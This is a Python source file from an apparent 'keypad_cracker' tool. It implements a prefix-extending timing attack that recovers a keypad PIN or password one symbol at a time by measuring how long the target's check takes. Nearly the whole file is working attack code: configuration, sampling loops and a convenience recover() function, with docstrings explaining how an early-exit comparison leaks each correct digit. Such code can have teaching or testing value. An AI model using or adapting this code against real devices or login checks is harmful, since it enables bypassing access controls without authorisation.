"""
Prefix-extending timing attack.

Implements IAttackStrategy against any ITimingOracle.
"""

from dataclasses import dataclass, field
from enum import Enum
from typing import Dict, List, Optional, Tuple

from keypad_cracker.core.exceptions import ConfigurationError, RecoveryFailed
from keypad_cracker.core.interfaces import IAttackStrategy, ITimingOracle, SymbolScore
from keypad_cracker.services.analysis_service import AnalysisService
from keypad_cracker.services.timing_service import SamplingPolicy
from keypad_cracker.utils.logger import Logger


@dataclass
class AttackConfig:
    """Configuration for the timing attack."""
    alphabet: str = "0123456789"
    secret_length: int = 6
    pad_symbol: Optional[str] = None  # Pad trials to secret_length when set

    def validate(self) -> None:
        if not self.alphabet:
            raise ConfigurationError("Alphabet must not be empty")
        if len(set(self.alphabet)) != len(self.alphabet):
            raise ConfigurationError(f"Alphabet has duplicate symbols: '{self.alphabet}'")
        if self.secret_length < 1:
            raise ConfigurationError(f"Secret length must be positive, got {self.secret_length}")
        if self.pad_symbol is not None and len(self.pad_symbol) != 1:
            raise ConfigurationError(f"Pad symbol must be one character, got '{self.pad_symbol}'")


class AttackState(Enum):
    IDLE = "idle"
    SAMPLING = "sampling"
    SCORING = "scoring"
    EXTENDING = "extending"
    RECOVERED = "recovered"
    EXHAUSTED = "exhausted"


@dataclass
class RecoveryStats:
    """Bookkeeping for one recovery run."""
    rounds: int = 0
    queries: int = 0
    selections: List[str] = field(default_factory=list)


class TimingAttacker(IAttackStrategy):
    """
    Character-by-character timing attack.

    Algorithm:
    1. Start with an empty prefix
    2. For each position:
        a. Query prefix + symbol for every symbol of the alphabet
        b. Stop as soon as the target accepts a trial
        c. Keep the symbol with the longest processing time
           (first symbol wins an exact tie)
    3. Fail once every position is filled and nothing was accepted

    Why this works:
    - The check routine exits at the first mismatching digit
    - A correct digit makes it compare one more position
    - One more comparison is a longer busy pulse on the scope

    Example:
        >>> config = AttackConfig(alphabet="0123456789", secret_length=6)
        >>> attacker = TimingAttacker(oracle, config=config)
        >>> attacker.recover()
        '424344'
    """

    def __init__(
        self,
        oracle: ITimingOracle,
        timing_analyzer: Optional[AnalysisService] = None,
        sampling_policy: Optional[SamplingPolicy] = None,
        config: Optional[AttackConfig] = None,
        logger: Optional[Logger] = None
    ):
        """
        Initialize timing attacker.

        Args:
            oracle: Timing oracle for the target
            timing_analyzer: Scores measurements and picks the winner
            sampling_policy: Queries per trial and how to combine them
            config: Attack configuration
            logger: Logger instance
        """
        self.oracle = oracle
        self.logger = logger or Logger()
        self.timing_analyzer = timing_analyzer or AnalysisService(logger=self.logger)
        self.sampling_policy = sampling_policy or SamplingPolicy()
        self.config = config or AttackConfig()
        self.state = AttackState.IDLE
        self.stats = RecoveryStats()

    def recover(self) -> str:
        """
        Execute the timing attack.

        Returns:
            The candidate the target accepted

        Raises:
            ConfigurationError: If the alphabet or length is invalid
            RecoveryFailed: If no candidate was accepted
        """
        self.config.validate()
        self.state = AttackState.IDLE
        self.stats = RecoveryStats()

        alphabet = self.config.alphabet
        length = self.config.secret_length

        self.logger.info(f"Starting timing attack: length {length}, alphabet '{alphabet}'")
        self.logger.info(
            f"Sampling: {self.sampling_policy.samples} per symbol "
            f"({self.sampling_policy.aggregate})"
        )

        prefix = ""
        for position in range(length):
            self.logger.info(f"Position {position}/{length}: '{prefix}'")

            self.state = AttackState.SAMPLING
            accepted, scores = self._sample_position(prefix)
            if accepted is not None:
                self.state = AttackState.RECOVERED
                self.stats.rounds = position + 1
                self.logger.info(
                    f"[+] Password recovered: '{accepted}' "
                    f"({self.stats.queries} queries)"
                )
                return accepted

            self.state = AttackState.SCORING
            best_symbol, margin = self.timing_analyzer.compare_candidates(scores)

            self.state = AttackState.EXTENDING
            prefix += best_symbol
            self.stats.rounds = position + 1
            self.stats.selections.append(best_symbol)
            self.logger.info(f"[+] Selected '{best_symbol}' (margin {margin:.3f}) -> '{prefix}'")

        self.state = AttackState.EXHAUSTED
        self.logger.error(f"No candidate accepted, best guess was '{prefix}'")
        raise RecoveryFailed(prefix, self.stats.rounds, self.stats.queries)

    def _trial(self, prefix: str, symbol: str) -> str:
        candidate = prefix + symbol
        if self.config.pad_symbol is not None:
            candidate = candidate.ljust(self.config.secret_length, self.config.pad_symbol)
        return candidate

    def _sample_position(self, prefix: str) -> Tuple[Optional[str], List[SymbolScore]]:
        """
        Query every symbol for the next position.

        Returns (accepted_candidate, []) as soon as the target accepts a
        trial, otherwise (None, scores) with scores in alphabet order.
        """
        measurements: Dict[str, List[float]] = {}

        for symbol in self.config.alphabet:
            candidate = self._trial(prefix, symbol)
            measurements[symbol] = []

            for _ in range(self.sampling_policy.samples):
                result = self.oracle.query(candidate)
                self.stats.queries += 1

                if result.accepted:
                    return candidate, []

                measurements[symbol].append(result.measurement)

            self.logger.debug(f"'{candidate}': {measurements[symbol]}")

        scores: List[SymbolScore] = [
            self.timing_analyzer.analyze_measurements(
                symbol, values, self.sampling_policy.aggregate
            )
            for symbol, values in measurements.items()
        ]
        return None, scores


def recover(
    alphabet: str,
    secret_length: int,
    oracle: ITimingOracle,
    sampling_policy: Optional[SamplingPolicy] = None,
    logger: Optional[Logger] = None
) -> str:
    """Recover a secret of `secret_length` symbols from `alphabet` through `oracle`."""
    attacker = TimingAttacker(
        oracle,
        sampling_policy=sampling_policy,
        config=AttackConfig(alphabet=alphabet, secret_length=secret_length),
        logger=logger
    )
    return attacker.recover()
